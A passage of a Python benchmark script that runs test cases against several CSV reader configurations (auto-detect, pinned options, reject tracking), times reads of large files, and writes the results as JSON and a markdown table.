        cells = " | ".join(f"{s[r]}/{s['cases']}" for r in (*READERS, "pinned_rejects_byte_line"))
        product = f"{s['product_as_expected']}/{s['cases']}"
        lines.append(f"| {check} | {s['cases']} | {product} | {cells} |")
    if runs:
        lines += ["", "seconds, median (min):", ""]
        lines += ["| rows | MB | " + " | ".join(runs[0]["median"]) + " |"]
        lines.append("|---|---|" + "---|" * len(runs[0]["median"]))
        for r in runs:
            cells = " | ".join(f"{v:.2f} ({r['min'][k]:.2f})" for k, v in r["median"].items())
            lines.append(f"| {rows_label(r['rows'])} | {r['csv_mb']} | {cells} |")
    lines += ["", f"Machine: {machine_line(facts)}."]
    return "\n".join(lines)


def main(argv: Sequence[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    ap.add_argument("--rows", default="1M,5M", help="clean-file sizes for the speed part")
    ap.add_argument("--repeat", type=int, default=3, help="runs per reader (median)")
    ap.add_argument("--repeat-large", type=int, default=3, help="runs at 5M rows and more")
    ap.add_argument("--work", type=Path, default=Path("/tmp/csv_reader_bench"))
    ap.add_argument("--out", type=Path, default=Path("benchmarks/results/csv_reader.json"))
    ap.add_argument("--skip-speed", action="store_true")
    ap.add_argument("--only", help="comma-separated case ids")
    args = ap.parse_args(argv)

    args.work.mkdir(parents=True, exist_ok=True)
    facts = machine_facts()
    only = set(args.only.split(",")) if args.only else None
    root = Path(tempfile.mkdtemp(prefix="cases-", dir=args.work))
    results = []
    try:
        for case in CASES:
            if only and case.id not in only:
                continue
            res = run_case(case, root)
            results.append(res)
            verdicts = ", ".join(f"{r}: {res[r]['verdict']}" for r in READERS)
            ok = "ok" if res["product"]["as_expected"] else "NOT AS TESTED"
            print(f"{case.id:28} product {ok}; {verdicts}", flush=True)
    finally:
        shutil.rmtree(root, ignore_errors=True)
    runs = []
    if not args.skip_speed:
        for rows in sorted(parse_rows(s) for s in args.rows.split(",") if s.strip()):
            n = args.repeat_large if rows >= 5_000_000 else args.repeat
            runs.append(speed(rows, args.work, n))
    payload = {
        "run": {
            "argv": sys.argv if argv is None else ["benchmarks.csv_reader", *argv],
            "readers": {
                "auto": "read_csv(path, strict_mode=true, header=true)",
                "pinned": "auto_detect=false, columns=<line 1>, delim=<head sniffer>, "
                "quote/escape '\"', strict_mode=true, null_padding=false, "
                "ignore_errors=false, max_line_size=max_field_bytes, encoding",
                "*_rejects": "the same with store_rejects=true; refused = reject_errors "
                "not empty, line = its smallest line",
            },
            "machine": facts,
        },
        "summary": summary(results),
        "cases": results,
        "speed": runs,
    }
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.write_text(json.dumps(payload, indent=1, default=str) + "\n")
    print()
    print(markdown(results, runs, facts))
    print(f"\nwrote {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
